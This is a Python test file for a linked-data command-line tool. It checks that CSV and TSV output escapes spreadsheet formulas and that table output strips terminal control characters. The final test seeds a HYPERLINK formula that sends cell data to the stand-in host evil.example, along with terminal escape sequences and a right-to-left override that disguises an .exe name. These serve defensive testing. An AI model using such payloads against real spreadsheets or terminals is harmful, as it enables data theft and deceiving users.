"""Values from the API shown where people look: a CSV or TSV cell never starts a spreadsheet
formula (unless ``--raw``), a table cell never carries a control character to the terminal."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pyoxigraph as ox
from click.testing import CliRunner
from helpers import seed_data, write_json
from hypothesis import given, settings
from hypothesis import strategies as st

from konbini_ld.apps.cli import main
from konbini_ld.io.text import FORMULA_TRIGGERS
from konbini_ld.query.run import QueryResult

XSD = "http://www.w3.org/2001/XMLSchema#"
P = ox.NamedNode("http://example.org/p")

#: Any text a literal can hold, with the beginnings that matter over-represented.
cell_text = st.one_of(
    st.text(st.characters(exclude_categories=("Cs",)), max_size=30),
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "'", "\"=", "-1", "+1e3"]),
              st.text(st.characters(exclude_categories=("Cs",)), max_size=20)).map("".join),
)
#: Literals of any datatype a result can hold.
literals = st.one_of(
    cell_text.map(ox.Literal),
    st.tuples(cell_text, st.sampled_from(["en", "fr-ca"])).map(lambda t: ox.Literal(t[0], language=t[1])),
    st.integers(-(2**63), 2**63 - 1).map(lambda n: ox.Literal(str(n), datatype=ox.NamedNode(XSD + "integer"))),
    st.decimals(allow_nan=False, allow_infinity=False, places=3).map(
        lambda d: ox.Literal(str(d), datatype=ox.NamedNode(XSD + "decimal"))),
    st.floats(allow_nan=False).map(lambda f: ox.Literal(repr(f), datatype=ox.NamedNode(XSD + "double"))),
    st.booleans().map(lambda b: ox.Literal(str(b).lower(), datatype=ox.NamedNode(XSD + "boolean"))),
)

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` as a formula (OWASP's list; a plain number is a number)."""
    return cell.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(cell)


def _native(values: list[Any]) -> Any:
    """A SELECT result as the engine gives it (streamed, not yet read)."""
    store = ox.Store()
    for i, value in enumerate(values):
        store.add(ox.Quad(ox.NamedNode(f"http://example.org/s{i:04d}"), P, value))
    return store, QueryResult("SELECT", ["s", "v"], store.query("SELECT ?s ?v WHERE { ?s ?p ?v } ORDER BY ?s"))


def _written(values: list[Any], fmt: str, **options: Any) -> bytes:
    _, result = _native(values)
    out = io.BytesIO()
    result.write(out, fmt, **options)
    return out.getvalue()


@settings(max_examples=200, deadline=None)
@given(st.lists(literals, min_size=1, max_size=6))
def test_no_csv_cell_a_spreadsheet_would_evaluate(values: list[Any]) -> None:
    text = _written(values, "csv", escape_formulas=True).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["s", "v"] and len(rows) == len(values) + 1
    for row in rows[1:]:
        assert not any(evaluates(cell) for cell in row), row


@settings(max_examples=200, deadline=None)
@given(st.lists(literals, min_size=1, max_size=6))
def test_csv_is_oxigraph_s_byte_for_byte_but_for_the_escapes(values: list[Any]) -> None:
    """``--raw`` is the engine's CSV; escaped, it differs only by the ``'`` of the cells that need one."""
    raw = _written(values, "csv")
    escaped = _written(values, "csv", escape_formulas=True)
    _, reference = _native(values)
    native = io.BytesIO()
    reference._native.serialize(native, ox.QueryResultsFormat.CSV)
    assert raw == native.getvalue()
    if not any(evaluates(v.value) for v in values):
        assert escaped == raw
    else:
        unescaped = [[c[1:] if c.startswith("'") and evaluates(c[1:]) else c for c in row]
                     for row in csv.reader(io.StringIO(escaped.decode("utf-8"), newline=""))]
        assert unescaped == list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


@settings(max_examples=200, deadline=None)
@given(st.lists(literals, min_size=1, max_size=6))
def test_no_tsv_cell_a_spreadsheet_would_evaluate(values: list[Any]) -> None:
    raw = _written(values, "tsv").decode("utf-8")
    text = _written(values, "tsv", escape_formulas=True).decode("utf-8")
    lines = text.split("\n")
    assert lines[0] == "?s\t?v" and lines[-1] == "" and len(lines) == len(values) + 2
    for line in lines[1:-1]:
        for cell in line.split("\t"):
            shown = cell[1:cell.rindex('"')] if cell.startswith('"') else cell  # what a spreadsheet unquotes
            assert not evaluates(shown), cell
    if not any(evaluates(v.value) for v in values):
        assert text == raw


@settings(max_examples=200, deadline=None)
@given(st.lists(cell_text, min_size=1, max_size=6))
def test_a_table_never_carries_a_control_character(values: list[str]) -> None:
    text = _written([ox.Literal(v) for v in values], "table").decode("utf-8")
    body = text[:-1]  # (its last line break)
    controls = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
    assert not controls.search(body), repr(body)
    assert body.count("\n") == len(values) + 2  # header, rule, one line a row, the count


def test_the_command_line_escapes_by_default_and_raw_writes_values_exactly(tmp_path: Path) -> None:
    doc = seed_data()
    doc["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc["attributedTo"]["name"] = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe"
    store = str(tmp_path / "s")
    runner = CliRunner()
    assert runner.invoke(main, ["--store", store, "load", str(write_json(tmp_path / "x.json", {"data": doc}))]
                         ).exit_code == 0
    query = ("SELECT ?name ?creator WHERE { ?a <https://www.w3.org/ns/activitystreams#name> ?name ; "
             "<https://www.w3.org/ns/activitystreams#attributedTo>/<https://www.w3.org/ns/activitystreams#name> "
             "?creator }")
    csv_out = runner.invoke(main, ["--store", store, "query", "-e", query, "-f", "csv"]).stdout
    assert "\"'=HYPERLINK(" in csv_out
    raw = runner.invoke(main, ["--store", store, "query", "-e", query, "-f", "csv", "--raw"]).stdout
    assert '"=HYPERLINK(' in raw and "\x1b]0;owned" in raw
    tsv = runner.invoke(main, ["--store", store, "query", "-e", query, "-f", "tsv"]).stdout
    assert "\"'=HYPERLINK(" in tsv
    table = runner.invoke(main, ["--store", store, "query", "-e", query]).stdout
    assert "\x1b" not in table and "\u202e" not in table and "\\x1b]0;owned\\x07\\x1b[2J\\u202egnp.exe" in table
